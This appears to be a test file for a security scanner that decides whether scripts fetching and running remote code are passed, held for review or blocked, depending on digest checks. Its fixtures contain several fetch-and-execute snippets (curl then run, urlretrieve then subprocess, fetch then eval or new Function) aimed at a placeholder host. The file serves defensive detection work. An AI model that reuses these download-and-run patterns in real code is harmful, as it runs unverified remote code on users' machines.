// Downloads that run after their digest was compared with a constant are held, and not blocked: who changes the one may
// change the other.
import { describe, expect, it } from 'vitest';
import { decision } from './support.ts';

const U = 'https://example.invalid/f';
const SHA = '0123456789abcdef'.repeat(4);
const COMPARED = `[ "$(sha256sum f | cut -d' ' -f1)" = "${SHA}" ] || exit 1`;
const RETRIEVED = `import hashlib, os, subprocess, urllib.request\nurllib.request.urlretrieve("${U}", "t")\n`;
const RUN = 'os.chmod("t", 0o755)\nsubprocess.run(["./t"])\n';

describe('a digest that is compared', () => {
  it.each([
    ['by test', 'a.sh', `curl -fsSLo f ${U}\n${COMPARED}\nchmod +x f\n./f\n`],
    [
      'in a condition of Bash, by variables',
      'a.sh',
      `#!/bin/bash\ncurl -fsSLo f ${U}\nGOT=$(sha256sum f | awk '{print $1}')\nif [[ "$GOT" != "${SHA}" ]]; then exit 1; fi\nsh f\n`,
    ],
    [
      'of bytes in Python',
      'a.py',
      `import hashlib, requests, subprocess\ndata = requests.get("${U}").content\nif hashlib.sha256(data).hexdigest() != "${SHA}":\n    raise SystemExit("bad")\nopen("t", "wb").write(data)\nsubprocess.run(["./t"])\n`,
    ],
    [
      'of a file in Python',
      'a.py',
      `${RETRIEVED}assert hashlib.sha256(open("t", "rb").read()).hexdigest() == "${SHA}"\n${RUN}`,
    ],
    [
      'of a file in Python, in steps',
      'a.py',
      `${RETRIEVED}h = hashlib.sha256()\nwith open("t", "rb") as f:\n    h.update(f.read())\nif h.hexdigest() != "${SHA}":\n    raise SystemExit(1)\n${RUN}`,
    ],
    [
      'of a text in JavaScript',
      'a.js',
      `const crypto = require("crypto");\nfetch("${U}").then((r) => r.text()).then((t) => {\n  if (crypto.createHash("sha256").update(t).digest("hex") !== "${SHA}") throw new Error("bad");\n  eval(t);\n});\n`,
    ],
  ])('makes a person decide: %s', async (_, path, text) => {
    expect(await decision(path, text)).toBe('review');
  });

  it.each([
    ['another file', 'a.sh', `curl -fsSLo f ${U}\n${COMPARED.replace('sha256sum f', 'sha256sum g')}\n./f\n`],
    ['too late', 'a.sh', `curl -fsSLo f ${U}\nsh f\n${COMPARED}\n`],
    ['before another is fetched', 'a.sh', `curl -fsSLo f ${U}\n${COMPARED}\ncurl -fsSLo f ${U}2\nsh f\n`],
    [
      'something that stays what it is',
      'a.py',
      `${RETRIEVED}assert hashlib.sha256(b"abc").hexdigest() == "${SHA}"\n${RUN}`,
    ],
    ['with what is no digest', 'a.py', `${RETRIEVED}assert open("t").read() != "abc"\n${RUN}`],
  ])('changes nothing where it is that of %s', async (_, path, text) => {
    expect(await decision(path, text)).toBe('block');
  });
});

describe('a function of a text near a download', () => {
  it.each<readonly [text: string, expected: 'pass' | 'review' | 'block']>([
    [
      `const g = Function("return this")();\nfetch("${U}").then((r) => r.json()).then(console.log);\n`,
      'pass',
    ],
    [
      `const t = new Function("d", "return \`" + page + "\`");\nfetch("${U}").then((r) => r.json()).then(t);\n`,
      'review',
    ],
    [`fetch("${U}").then((r) => r.text()).then((t) => new Function("d", t)());\n`, 'block'],
  ])('%s', async (text, expected) => {
    expect(await decision('a.js', text)).toBe(expected);
  });
});
